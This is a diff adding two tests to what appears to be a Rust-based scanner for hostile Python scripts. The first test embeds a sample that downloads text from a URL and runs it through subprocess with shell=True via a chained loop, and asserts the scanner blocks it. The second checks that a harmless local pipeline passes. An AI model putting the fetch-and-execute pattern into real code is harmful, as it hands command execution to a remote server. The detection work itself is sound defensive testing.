@@ -429,3 +429,44 @@ with open(".git/hooks/pre-commit", "w") as fh:
     let a = run(hook);
     assert!(!rules(&a).contains(&"MB908"), "{:?}", a.findings);
 }
+
+/// Stages kept in a tuple and chained in a loop (`value = stage(value)`):
+/// what one stage downloads reaches the next, which runs it (8ee649d:
+/// MEDIUM).
+#[test]
+fn stages_chained_in_a_loop_pass_downloads_on() {
+    let chain = r#"import subprocess, urllib.request
+def pull(url):
+    return urllib.request.urlopen(url).read().decode()
+def act(line):
+    return subprocess.run(line, shell=True)
+PIPELINE = (pull, act)
+def main(stages=PIPELINE):
+    item = "https://orders.example.net/next"
+    for stage in stages:
+        item = stage(item)
+main()
+"#;
+    let a = run(chain);
+    assert!(rules(&a).contains(&"MB913"), "{:?}", a.findings);
+    assert_eq!(a.verdict, Verdict::Blocked);
+}
+
+/// Stages chained the same way over a local file, none reaching the
+/// network, run nothing that came from outside.
+#[test]
+fn stages_chained_in_a_loop_over_local_data_are_harmless() {
+    let chain = r#"import json
+def load(path):
+    return open(path).read()
+def parse(text):
+    return json.loads(text)
+def show(doc):
+    print(doc.get("name"))
+item = "settings.json"
+for stage in (load, parse, show):
+    item = stage(item)
+"#;
+    let a = run(chain);
+    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
+}
